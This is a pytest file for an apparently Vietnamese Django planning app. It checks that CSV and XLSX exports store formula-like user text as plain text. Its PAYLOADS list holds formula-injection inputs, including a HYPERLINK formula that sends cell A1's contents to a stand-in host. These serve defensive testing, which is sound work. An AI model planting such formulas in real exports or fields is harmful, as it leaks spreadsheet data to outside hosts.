"""Text that a spreadsheet would run as a formula is written as text in every export."""

from __future__ import annotations

import csv
import datetime as dt
import io
from typing import Any

import pytest
from django.test import Client
from openpyxl import Workbook, load_workbook

from chiso.dashboards.charts import to_csv
from chiso.exports.reports import xlsx_report
from chiso.lib import spreadsheet_safety
from chiso.lib.testing import ledger
from chiso.org.models import Unit
from chiso.plans import services
from chiso.plans.choices import DocumentKind
from chiso.plans.export import xlsx_response
from chiso.plans.tests.conftest import person

PAYLOADS = ['=HYPERLINK("http://x.invalid/?"&A1,"Bấm")', "+1+1", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)"]  # fmt: skip


def _xlsx_cells(content: bytes) -> list[Any]:
    book = load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def _assert_text_not_formula(cells: list[Any], payloads: list[str]) -> None:
    for cell in cells:
        assert cell.data_type != "f", cell.coordinate
    values = {c.value for c in cells}
    for payload in payloads:
        assert payload in values, payload


@pytest.mark.parametrize("payload", PAYLOADS)
def test_csv_cells_are_neutralised_and_numbers_stay_numbers(payload: str) -> None:
    text = to_csv(["Đơn vị", "Điểm"], [[payload, -3.5], ["Xã A", 2]])
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"), newline="")))
    assert rows[1][0] == "'" + payload
    assert rows[1][1] == "-3.5"  # a negative number is not user text
    ledger.attack("formula injection (CSV)", 1)


def test_xlsx_cells_keep_the_text_and_never_hold_a_formula() -> None:
    book = Workbook()
    sheet = book.active
    for payload in PAYLOADS:
        spreadsheet_safety.append_row(sheet, [payload, -1.5])
    out = io.BytesIO()
    book.save(out)
    cells = _xlsx_cells(out.getvalue())
    _assert_text_not_formula(cells, PAYLOADS)
    numbers = [c.value for c in cells if c.column == 2]
    assert numbers == [-1.5] * len(PAYLOADS)
    ledger.attack("formula injection (XLSX)", len(PAYLOADS))


def test_a_task_title_typed_as_a_formula_is_text_in_the_plans_export(
    db: None, client: Client
) -> None:
    province = Unit.objects.create(code="nghe-an", kind="province", name="Tỉnh Nghệ An")
    admin = person("quantri-x", province, "admin")
    doc = services.create_document(
        admin, province=province, kind=DocumentKind.PLAN, title="=1+1", issuer="UBND tỉnh"
    )
    for payload in PAYLOADS:
        services.assign_task(
            admin, doc, services.TaskSpec(text=payload, deadline=dt.date(2025, 9, 30))
        )
    rows = [[o.task.text, -1] for o in doc.tasks.all() for o in o.occurrences.all()]
    response = xlsx_response("nhiem-vu", "Nhiệm vụ", ["Nhiệm vụ", "Số"], rows)
    _assert_text_not_formula(_xlsx_cells(response.content), PAYLOADS)
    client.force_login(admin)
    through_web = client.get("/plans/?format=xlsx")
    if through_web.status_code == 200 and through_web["Content-Type"].endswith("sheet"):
        for cell in _xlsx_cells(through_web.content):
            assert cell.data_type != "f"
    ledger.attack("formula injection (plans XLSX)", len(PAYLOADS))


def test_a_unit_name_typed_as_a_formula_is_text_in_the_report_workbook() -> None:
    book = Workbook()
    sheet = book.active
    rows = [[i, payload, -0.5] for i, payload in enumerate(PAYLOADS, start=1)]
    xlsx_report._write(sheet, [PAYLOADS[0]], ["Hạng", "Đơn vị", "Điểm"], rows, [7, 40, 11])
    out = io.BytesIO()
    book.save(out)
    cells = _xlsx_cells(out.getvalue())
    _assert_text_not_formula(cells, PAYLOADS)
    assert [c.value for c in cells if c.column == 3 and c.row > 3] == [-0.5] * len(PAYLOADS)
    ledger.attack("formula injection (report XLSX)", len(PAYLOADS) + 1)
